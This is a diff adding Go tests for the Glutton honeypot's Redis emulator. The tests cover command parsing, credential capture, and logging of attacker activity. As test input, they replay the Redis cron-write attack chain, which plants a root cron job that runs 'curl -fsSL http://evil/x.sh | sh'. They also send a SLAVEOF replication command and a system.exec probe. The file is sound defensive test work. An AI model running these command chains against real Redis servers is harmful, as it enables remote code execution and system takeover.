@@ -0,0 +1,109 @@
+package tcp
+
+import (
+	"bufio"
+	"context"
+	"encoding/json"
+	"net"
+	"strings"
+	"testing"
+
+	"github.com/mushorg/glutton/connection"
+	"github.com/mushorg/glutton/protocols/mocks"
+	"github.com/stretchr/testify/mock"
+	"github.com/stretchr/testify/require"
+)
+
+func TestReadRedisCommand(t *testing.T) {
+	reader := bufio.NewReader(strings.NewReader("*3\r\n$3\r\nset\r\n$1\r\nx\r\n$4\r\na\r\nb\r\nPING\r\n"))
+	args, err := readRedisCommand(reader)
+	require.NoError(t, err)
+	require.Equal(t, []string{"set", "x", "a\r\nb"}, args)
+
+	args, err = readRedisCommand(reader)
+	require.NoError(t, err)
+	require.Equal(t, []string{"PING"}, args)
+
+	_, err = readRedisCommand(bufio.NewReader(strings.NewReader("*1\r\n$99999999\r\n")))
+	require.Error(t, err)
+}
+
+func TestRedisCronChain(t *testing.T) {
+	session := newRedisSession()
+	cron := "\n\n*/1 * * * * curl -fsSL http://evil/x.sh | sh\n\n"
+	for _, args := range [][]string{
+		{"flushall"},
+		{"set", "backup1", cron},
+		{"config", "set", "dir", "/var/spool/cron/"},
+		{"config", "set", "dbfilename", "root"},
+	} {
+		resp, save, _ := session.handle(args)
+		require.Equal(t, "+OK\r\n", string(resp))
+		require.False(t, save)
+	}
+	resp, save, _ := session.handle([]string{"save"})
+	require.Equal(t, "+OK\r\n", string(resp))
+	require.True(t, save)
+	file, data := session.snapshot()
+	require.Equal(t, "/var/spool/cron/root", file)
+	require.Equal(t, cron, string(data))
+
+	resp, _, _ = session.handle([]string{"CONFIG", "GET", "dir"})
+	require.Equal(t, "*2\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n", string(resp))
+
+	session.handle([]string{"SLAVEOF", "1.2.3.4", "21000"})
+	resp, _, _ = session.handle([]string{"INFO"})
+	require.Contains(t, string(resp), "master_host:1.2.3.4")
+
+	resp, _, _ = session.handle([]string{"system.exec", "id"})
+	require.Equal(t, "-ERR unknown command `system.exec`, with args beginning with: `id`, \r\n", string(resp))
+}
+
+func TestHandleRedisAuth(t *testing.T) {
+	isolateBruteForce(t)
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	defer ln.Close()
+	client, err := net.Dial("tcp", ln.Addr().String())
+	require.NoError(t, err)
+	defer client.Close()
+	server, err := ln.Accept()
+	require.NoError(t, err)
+
+	creds := []string{}
+	h := &mocks.MockHoneypot{}
+	h.EXPECT().UpdateConnectionTimeout(mock.Anything, mock.Anything).Return(nil)
+	h.EXPECT().ProduceTCP("redis", mock.Anything, mock.Anything, mock.Anything, mock.Anything).
+		Run(func(_ string, _ net.Conn, _ connection.Metadata, _ []byte, event interface{}) {
+			if _, ok := event.([]parsedRedis); ok {
+				return
+			}
+			data, err := json.Marshal(event)
+			require.NoError(t, err)
+			creds = append(creds, string(data))
+		}).Return(nil)
+	l := &mocks.MockLogger{}
+	l.EXPECT().Info("credential captured", mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return()
+	l.EXPECT().Info("Redis command", mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return()
+	l.EXPECT().Debug(mock.Anything, mock.Anything, mock.Anything).Return().Maybe()
+
+	done := make(chan error)
+	go func() {
+		done <- HandleRedis(context.Background(), server, connection.Metadata{TargetPort: 6379}, l, h)
+	}()
+
+	reader := bufio.NewReader(client)
+	_, err = client.Write([]byte("*2\r\n$4\r\nAUTH\r\n$6\r\nfoobar\r\n*3\r\n$4\r\nauth\r\n$7\r\ndefault\r\n$6\r\ns3cret\r\n"))
+	require.NoError(t, err)
+	for i := 0; i < 2; i++ {
+		line, err := reader.ReadString('\n')
+		require.NoError(t, err)
+		require.True(t, strings.HasPrefix(line, "-ERR AUTH"))
+	}
+	client.Close()
+	require.NoError(t, <-done)
+
+	require.Len(t, creds, 2)
+	require.JSONEq(t, `{"event": "credential", "protocol": "redis", "password": "foobar", "success": false}`, creds[0])
+	require.JSONEq(t, `{"event": "credential", "protocol": "redis", "username": "default", "password": "s3cret", "success": false}`, creds[1])
+}